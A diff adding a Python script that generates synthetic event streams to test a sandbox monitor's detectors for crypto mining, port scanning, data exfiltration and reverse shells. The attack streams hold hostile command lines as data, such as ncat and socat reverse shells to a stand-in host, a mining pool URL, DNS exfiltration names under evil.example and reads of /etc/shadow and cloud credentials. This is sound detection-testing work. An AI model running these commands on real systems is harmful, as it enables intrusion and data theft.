@@ -1,0 +1,175 @@
+#!/usr/bin/python3
+"""Streams for tests/unit/test_watch.c that cannot be recorded on any machine, since they need hosts outside. The events are as
+launcher and broker tell them. DETECTOR.attack-NAME.jsonl must trigger DETECTOR, DETECTOR.honest-NAME.jsonl nothing at all.
+
+The streams that are not made here were recorded: sandbox-agent --risk-level medium --record-events FILE -- PROGRAM.
+
+    cd tests/data/watch && python3 compose.py
+"""
+import json
+
+FIRST = dict(kind="exec", pid=100, call="execve", text="/usr/bin/python3", argv="python3\x1f/code/main.py")
+
+
+class Stream:
+    def __init__(self, name):
+        self.at, self.lines, self.name, self.connections = 0, [], name, 0
+        self.add(3, **FIRST)
+
+    def add(self, ms, **event):
+        """ms later"""
+        self.at += ms * 1000
+        self.lines.append({"at_us": int(self.at), **event})
+        return self
+
+    def connect(self, ms, address, port, name=None, pid=100, protocol=6, **more):
+        if "error" not in more:  # nothing came of it: it has no number
+            self.connections += 1
+            more["connection"] = self.connections
+        return self.add(ms, kind="connect", pid=pid, call="connect", protocol=protocol, address=address, port=port,
+                        text="allow " + (name or "any public address"), **({"name": name} if name else {}), **more)
+
+    def traffic(self, ms, connection, out, back, address, port, kind="traffic", **more):
+        return self.add(ms, kind=kind, pid=100, protocol=6, address=address, port=port, connection=connection, bytes_out=out, bytes_in=back, **more)
+
+    def run(self, ms, path, *argv, pid=200, stdin="other", stdin_id=5, stdout="pipe", stdout_id=12, stderr="pipe", stderr_id=13, **more):
+        return self.add(ms, kind="exec", pid=pid, call="execve", text=path, argv="\x1f".join(argv or [path.rsplit("/")[-1]]), stdin=stdin, stdin_id=stdin_id,
+                        stdout=stdout, stdout_id=stdout_id, stderr=stderr, stderr_id=stderr_id, **more)
+
+    def save(self):
+        with open(self.name + ".jsonl", "w") as f:
+            for line in sorted(self.lines, key=lambda e: e["at_us"]):
+                f.write(json.dumps(line, separators=(",", ":"), ensure_ascii=True) + "\n")
+
+
+def busy(s, seconds, share=0.97, cores=0.5):
+    """Samples beside what is there already."""
+    s.lines += [{"at_us": i * 100000, "kind": "sample", "cpu_us": int(i * 100000 * share * cores), "memory_bytes": 40 << 20, "pids": 3} for i in range(1, seconds * 10)]
+    return s
+
+
+def mining():
+    s = busy(Stream("crypto_mining.attack-words"), 25).connect(500, "45.9.148.10", 443)
+    s.traffic(900, 1, 310, 520, "45.9.148.10", 443).add(3000, kind="words", pid=100, text="mining.subscribe").save()
+    s = busy(Stream("crypto_mining.attack-renamed"), 45).run(800, "/workspace/fontcache", "/workspace/fontcache", pid=101, flags="writable_place")
+    s.connect(500, "45.9.148.10", 80, pid=102)
+    for i in range(1, 8):
+        s.traffic(5000, 1, 300 * i, 500 * i, "45.9.148.10", 80)
+    s.save()
+    busy(Stream("crypto_mining.attack-arguments"), 25).run(50, "/usr/bin/tool", "tool", "-o", "stratum+ssl://pool.example:443", "-u", "4AbC", "-p", "x").save()
+    busy(Stream("crypto_mining.attack-pool"), 25).add(400, kind="name", name="gulf.moneroocean.stream", arg0=1).save()
+    s = busy(Stream("crypto_mining.honest-numpy-and-download"), 28).add(100, kind="name", name="files.pythonhosted.org", arg0=1)
+    s.connect(30, "151.101.0.223", 443, "files.pythonhosted.org")
+    for i in range(1, 25):
+        s.traffic(1000, 1, 900, (3 << 20) * i, "151.101.0.223", 443, name="files.pythonhosted.org")
+    s.save()
+    s = busy(Stream("crypto_mining.honest-built-program"), 28).run(100, "/usr/bin/gcc", "gcc", "-O2", "-o", "sim", "sim.c")
+    s.connect(10, "151.101.0.223", 443, "data.example.org").traffic(200, 1, 900, 250000, "151.101.0.223", 443, kind="closed", name="data.example.org")
+    s.run(900, "/workspace/sim", "./sim", "--steps", "1000000", flags="writable_place").save()
+
+
+def scanning():
+    s = Stream("port_scanning.attack-ports")
+    for port in range(20, 70):
+        s.connect(15, "203.0.113.9", port, error=111)
+    s.save()
+    s = Stream("port_scanning.attack-hosts-udp")
+    for i in range(1, 50):
+        s.connect(20, "198.51.100.%d" % i, 161, protocol=17)
+    s.save()
+    s = Stream("port_scanning.attack-refused-private")
+    for i in range(1, 50):
+        s.add(30, kind="connect", pid=100, call="connect", protocol=6, address="10.0.0.%d" % i, port=22, verdict="refused", error=111, text="private address 10.0.0.%d" % i)
+    s.save()
+    s = Stream("port_scanning.honest-retries")
+    for i in range(300):
+        s.connect(100, "203.0.113.%d" % (i % 3), 8080, error=111)
+    s.save()
+    s = Stream("port_scanning.honest-crawler")
+    for i in range(200):
+        s.add(60, kind="name", name="site%d.example%d.org" % (i, i), arg0=1).connect(20, "198.51.%d.%d" % (i // 100, i % 100), 443, "site%d.example%d.org" % (i, i))
+    s.save()
+    s = Stream("port_scanning.honest-packages")
+    for i in range(10):
+        for address in ("151.101.%d.63" % i, "2a04:4e42:%x::319" % i):
+            s.connect(20, address, 443, "mirror%d.debian.org" % i).connect(5, address, 80, "mirror%d.debian.org" % i)
+    s.save()
+
+
+def exfiltration():
+    s = Stream("data_exfiltration.attack-bulk").connect(50, "203.0.113.50", 443, "paste.example")
+    for i in range(1, 41):
+        s.traffic(100, 1, i << 20, 4000, "203.0.113.50", 443, name="paste.example")
+    s.save()
+    s = Stream("data_exfiltration.attack-spread")
+    for i in range(1, 12):
+        s.connect(50, "203.0.113.%d" % i, 443).traffic(400, i, 6 << 20, 4000, "203.0.113.%d" % i, 443, kind="closed")
+    s.save()
+    s = Stream("data_exfiltration.attack-canary").add(40, kind="file", pid=100, call="openat", flags="canary", text="/workspace/.aws/credentials")
+    s.connect(100, "203.0.113.50", 443).traffic(200, 1, 812, 300, "203.0.113.50", 443, kind="closed").save()
+    s = Stream("data_exfiltration.attack-sensitive").connect(20, "203.0.113.50", 443).traffic(10, 1, 517, 4000, "203.0.113.50", 443)
+    s.add(40, kind="file", pid=100, call="openat", flags="sensitive", text="/etc/shadow").traffic(90, 1, 1900, 4100, "203.0.113.50", 443).save()
+    s = Stream("data_exfiltration.attack-names")
+    for i in range(40):
+        s.add(120, kind="name", name="%032x.%02d.t.evil.example" % (0x9e3779b97f4a7c15f39cc0605cedc835 * (i + 3) % (1 << 128), i), arg0=16)
+    s.save()
+    s = Stream("data_exfiltration.attack-short-names")
+    for i in range(100):
+        s.add(120, kind="name", name="%06x.evil.example" % (7919 * (i + 1)), arg0=1)
+    s.save()
+    s = Stream("data_exfiltration.honest-upload").add(9, kind="file", pid=100, call="openat", flags="for_writing", text="/workspace/result.csv")
+    s.connect(50, "203.0.113.50", 443, "results.example.org")
+    for i in range(1, 21):
+        s.traffic(100, 1, i << 20, 4000, "203.0.113.50", 443, name="results.example.org")
+    s.save()
+    s = Stream("data_exfiltration.honest-local").connect(50, "127.0.0.1", 5432, flags="inside")
+    s.traffic(900, 1, 90 << 20, 400, "127.0.0.1", 5432, flags="inside").save()
+    s = Stream("data_exfiltration.honest-names")
+    for i in range(12):
+        for host in ("d%013x.cloudfront.net" % (i * 0x1234567), "www.site%d.example" % i, "my-long-bucket-name-%d.s3.eu-central-1.amazonaws.com" % i, "%d.0.0.10.in-addr.arpa" % i):
+            s.add(30, kind="name", name=host, arg0=1)
+    s.save()
+
+
+PIPES = dict(stdin="pipe", stdin_id=71, stdout="pipe", stdout_id=72, stderr="pipe", stderr_id=72)
+SOCKET = dict(stdin="inet", stdin_id=90, stdout="inet", stdout_id=90, stderr="inet", stderr_id=90)
+
+
+def shells():
+    def there(name):
+        return Stream("reverse_shells." + name).connect(30, "203.0.113.66", 4444)
+    there("attack-dev-tcp").run(2, "/bin/bash", "bash", "-i", **SOCKET).save()
+    there("attack-dup2").run(2, "/bin/sh", "/bin/sh", **SOCKET).save()
+    there("attack-renamed").run(2, "/tmp/kworker", "kworker", **SOCKET, flags="writable_place").save()
+    there("attack-interpreter").run(2, "/usr/bin/python3.11", "python3", **SOCKET).save()
+    there("attack-terminal").run(2, "/bin/bash", "/bin/bash", stdin="tty", stdin_id=3, stdout="tty", stdout_id=3, stderr="tty", stderr_id=3).save()
+    there("attack-node").run(2, "/bin/sh", "/bin/sh", stdin="unix", stdin_id=71, stdout="unix", stdout_id=72, stderr="unix", stderr_id=73).save()
+    there("attack-popen").run(2, "/bin/sh", "/bin/sh", "-i", **PIPES).save()
+    s = Stream("reverse_shells.attack-fifo").run(4, "/usr/bin/cat", "cat", "/tmp/f", pid=201, stdout_id=71)
+    s.run(1, "/bin/sh", "/bin/sh", "-i", pid=202, **PIPES).run(1, "/usr/bin/nc", "nc", "203.0.113.66", "4444", pid=203, stdin="pipe", stdin_id=72, stdout="file", stdout_id=80)
+    s.connect(3, "203.0.113.66", 4444, pid=203).save()
+    s = Stream("reverse_shells.attack-two-telnets").run(4, "/usr/bin/telnet", "telnet", "203.0.113.66", "4444", pid=201, stdout_id=71)
+    s.run(1, "/bin/sh", "/bin/sh", pid=202, **PIPES).run(1, "/usr/bin/telnet", "telnet", "203.0.113.66", "4445", pid=203, stdin="pipe", stdin_id=72)
+    s.connect(3, "203.0.113.66", 4444, pid=201).connect(3, "203.0.113.66", 4445, pid=203).save()
+    s = there("attack-read-loop")
+    for pid, word in enumerate(("id", "ls", "uname"), 300):
+        s.run(900, "/usr/bin/" + word, word, pid=pid, **SOCKET)
+    s.save()
+    Stream("reverse_shells.attack-ncat").run(9, "/usr/bin/ncat", "ncat", "203.0.113.66", "4444", "-e", "/bin/sh").save()
+    Stream("reverse_shells.attack-socat").run(9, "/usr/bin/socat", "socat", "TCP:203.0.113.66:4444", "EXEC:sh,pty").save()
+
+    s = there("honest-client-and-ls").traffic(300, 1, 400, 9000, "203.0.113.66", 4444)
+    s.run(5, "/usr/bin/ls", "ls", stdout_id=40).run(5, "/bin/sh", "/bin/sh", "-c", "ls", pid=201, stdout_id=41).run(5, "/usr/bin/ls", "ls", pid=201, stdout_id=41)
+    s.run(5, "/usr/bin/bash", "bash", "script.sh", pid=202, **PIPES).run(5, "/usr/bin/bash", "bash", "-ec", "make", pid=203, **PIPES).save()
+    s = Stream("reverse_shells.honest-curl-sh").run(4, "/usr/bin/curl", "curl", "-s", "https://sh.example", pid=201, stdout_id=71)
+    s.run(0, "/bin/sh", "sh", pid=202, stdin="pipe", stdin_id=71).connect(40, "203.0.113.7", 443, "sh.example", pid=201)
+    s.traffic(300, 1, 700, 9000, "203.0.113.7", 443, kind="closed").run(3, "/usr/bin/uname", "uname", pid=204, stdin="pipe", stdin_id=71).save()
+    s = there("honest-fed-script").traffic(100, 1, 400, 9000, "203.0.113.66", 4444, kind="closed").run(9, "/usr/bin/bash", "bash", **PIPES).save()
+    s = there("honest-bash-http").run(2, "/usr/bin/cat", "cat", "request", pid=201, stdout="inet", stdout_id=90)
+    s.run(2, "/usr/bin/cat", "cat", pid=202, stdin="inet", stdin_id=90).save()
+    s = Stream("reverse_shells.honest-upload-of-output").run(2, "/bin/sh", "sh", "-c", "df -h", pid=201, stdout_id=71)
+    s.run(1, "/usr/bin/curl", "curl", "-d", "@-", "https://x.example", pid=202, stdin="pipe", stdin_id=71).connect(30, "203.0.113.7", 443, "x.example", pid=202).save()
+
+
+for make in (mining, scanning, exfiltration, shells):
+    make()
